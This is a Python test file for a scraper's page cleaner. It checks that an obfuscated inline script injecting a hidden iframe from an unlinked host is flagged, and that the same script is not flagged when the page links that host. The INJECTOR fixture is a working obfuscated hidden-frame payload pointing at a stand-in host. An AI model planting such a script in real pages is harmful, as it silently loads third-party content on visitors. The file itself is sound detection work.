"""An inline script that keeps "iframe" and the address of a host nothing else on the page names in one
string table injects a frame (v13 §3), even when it acts alike for every visitor."""
from __future__ import annotations

from scraper.clean import clean_page
from tests.clean.test_structural import BODY, URL, page

# An array-rotation frame injector (v13 §3), with an invented address on an invented host.
INJECTOR = ('<script>var _0xa1 = ["iframe", "setAttribute", "https://www.cdn-frames.example-x.top/f.html", "body",'
            ' "appendChild", "createElement"]; !function(t, x) { !function(x) { for (; --x; ) t.push(t.shift()) }(++x)'
            ' }(_0xa1, 342); var _0xf = function(t) { return _0xa1[t -= 0] }; a = document[_0xf("0x5")](_0xf("0x0")),'
            ' a[_0xf("0x1")]("src", _0xf("0x2")), a.style.width = "0px", a.style.height = "1px",'
            ' document[_0xf("0x3")][_0xf("0x4")](a);</script>')


def test_a_script_keeping_iframe_and_an_unnamed_hosts_address_in_one_table_flags_the_page():
    a = clean_page(page(body=BODY + INJECTOR), url=URL)
    assert a.hijacked, a.findings
    assert any("example-x.top" in f.evidence for f in a.findings)


def test_the_same_table_for_a_host_the_page_links_is_the_sites_own_frame():
    body = BODY + '<p><a href="https://www.example-x.top/">合作平台</a></p>' + INJECTOR
    a = clean_page(page(body=body), url=URL)
    assert not any("example-x.top" in f.evidence for f in a.findings), a.findings
